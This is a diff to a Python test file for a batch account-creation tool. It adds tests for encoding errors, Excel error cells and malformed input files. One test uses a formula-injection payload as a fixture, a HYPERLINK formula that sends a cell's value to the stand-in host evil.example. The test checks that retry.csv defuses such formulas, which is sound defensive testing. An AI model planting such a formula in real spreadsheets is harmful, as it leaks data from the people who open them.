@@ -183,6 +183,21 @@ def test_parquet_values_read_as_text(tmp_path: Path) -> None:
     assert rows[1].problem is None  # no value in the list column there
 
 
+def test_bytes_that_are_not_utf8_fail_their_row_only(tmp_path: Path) -> None:
+    # One bad value in a binary column made every row of the batch invalid (found by a bug hunt).
+    from batch.io.sources import open_input_file
+    from batch.verbs.registry import VERBS
+
+    path = tmp_path / "in.parquet"
+    pq.write_table(pa.table({"signInName": ["a@example.com", "b@example.com", "c@example.com", "d@example.com"],
+                             "displayName": ["A", "B", "C", "D"],
+                             "city": pa.array([b"Paris", b"\xe9vry", None, b"Lyon"], pa.binary())}), path)
+    rows = list(open_input_file(path, VERBS["create"].columns).rows())
+    assert [r.cells["city"] for r in rows] == ["Paris", "", "", "Lyon"]
+    assert [r.problem for r in rows] == [None, "city (column 3) holds bytes that are not UTF-8 text; give it as text",
+                                         None, None]
+
+
 def test_jsonl_line_trouble_fails_its_row_only(tmp_path: Path) -> None:
     from batch.io.sources import open_input_file
     from batch.verbs.registry import VERBS
@@ -288,7 +303,12 @@ def test_options_that_do_not_fit_the_format_are_refused(home: Path, tmp_path: Pa
     ("plain.xlsx", b"signInName,displayName\r\na@example.com,A\r\n", "is not an Excel workbook (.xlsx)"),
     ("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "is a password-protected workbook or an old .xls"),
     ("bad.parquet", b"PAR1 this is not parquet PAR1", "is not a Parquet file or is damaged"),
-    ("empty.jsonl", b"\n\n[1]\n", "holds no JSON object"),
+    ("empty.jsonl", b"\n\n[1]\n", "holds no JSON object: its first line holds a JSON array"),
+    # The file's encoding, or a pretty-printed document, was not said (found by a bug hunt).
+    ("latin1.jsonl", b'{"signInName": "h@example.com", "displayName": "H\xe9l\xe8ne"}\n',
+     "holds no JSON object: its first line is not valid UTF-8 (byte 50)"),
+    ("utf16.jsonl", '{"signInName": "h@example.com"}\n'.encode("utf-16"), "is UTF-16 (its byte order mark says so)"),
+    ("pretty.jsonl", b'{\n  "signInName": "h@example.com"\n}\n', "holds no JSON object: its first line is not valid JSON"),
 ])
 def test_a_bad_file_is_one_line_and_exit_2(home: Path, tmp_path: Path, name: str, content: bytes, said: str,
                                            capsys: pytest.CaptureFixture[str]) -> None:
@@ -321,6 +341,23 @@ def test_a_damaged_parquet_past_its_head_is_one_line(home: Path, tmp_path: Path,
     assert "cannot be read as Parquet past record" in err and "Traceback" not in err, err
 
 
+def test_an_excel_error_cell_makes_its_row_invalid(home: Path, tmp_path: Path) -> None:
+    # A cell whose formula failed (#N/A, #REF!) was read as its text: a customer named "#N/A".
+    path = write_table(tmp_path / "in.xlsx", ["signInName", "displayName", "jobTitle"],
+                       [["a@example.com", "A", "x"], ["b@example.com", "#N/A", "#REF!"], ["c@example.com", "N/A", ""]])
+    book = openpyxl.load_workbook(path)
+    sheet = book.active
+    assert sheet is not None
+    assert sheet["B3"].data_type == sheet["C3"].data_type == "e"  # openpyxl, as Excel, takes them for errors
+    book.save(path)
+    assert main(["create", str(path), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
+    found = results(tmp_path / "run")
+    assert [r["status"] for r in found] == ["created", "invalid", "created"]
+    assert found[1]["error_message"] == ("displayName (column 2) holds the Excel error #N/A; fix the formula or the "
+                                         "value in Excel; jobTitle (column 3) holds the Excel error #REF!; fix the "
+                                         "formula or the value in Excel")
+
+
 # ---- retry.csv and resume -------------------------------------------------------------------------------
 
 def test_retry_csv_of_a_parquet_run_runs_again(home: Path, tmp_path: Path) -> None:
@@ -336,6 +373,24 @@ def test_retry_csv_of_a_parquet_run_runs_again(home: Path, tmp_path: Path) -> No
     fixed.write_bytes(retry.read_bytes().replace(b"not-an-address@", b"b@example.com").replace(b"D\x7f", b"D"))
     assert main(["create", str(fixed), "--out-dir", str(tmp_path / "again"), "--quiet"]) == 0
     assert [r["status"] for r in results(tmp_path / "again")] == ["created", "created"]
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "jsonl", "parquet"])
+def test_retry_csv_of_a_tabular_input_neutralises_formulas(home: Path, tmp_path: Path, fmt: str) -> None:
+    # retry.csv, a CSV file made from a workbook or JSON Lines for Excel, kept the cells as they
+    # were: a formula in them ran when the administrator opened it to fix the rows.
+    formula = '@HYPERLINK("http://evil.example/?"&A1,"click")'  # an xlsx cell starting "=" is a formula cell
+    source = write_table(tmp_path / f"in.{fmt}", ["signInName", "displayName", "jobTitle"],
+                         [["a@example.com", "A", "x"], ["not-an-address@", formula, "+33 6 12"]])
+    assert main(["create", str(source), "--out-dir", str(tmp_path / "run"), "--quiet"]) == 1
+    with (tmp_path / "run" / "retry.csv").open(newline="", encoding="utf-8-sig") as handle:
+        assert list(csv.reader(handle)) == [["signInName", "displayName", "jobTitle"],
+                                            ["not-an-address@", "'" + formula, "'+33 6 12"]]
+    fixed = tmp_path / "fixed.csv"
+    fixed.write_bytes((tmp_path / "run" / "retry.csv").read_bytes().replace(b"not-an-address@", b"b@example.com"))
+    assert main(["create", str(fixed), "--dry-run", "--out-dir", str(tmp_path / "again"), "--quiet"]) == 0
+    with (tmp_path / "again" / "plan.csv").open(newline="", encoding="utf-8-sig") as handle:
+        assert [r["action"] for r in csv.DictReader(handle)] == ["create"]
 
 
 def test_an_interrupted_xlsx_run_resumes_on_the_same_sheet(home: Path, tmp_path: Path) -> None:
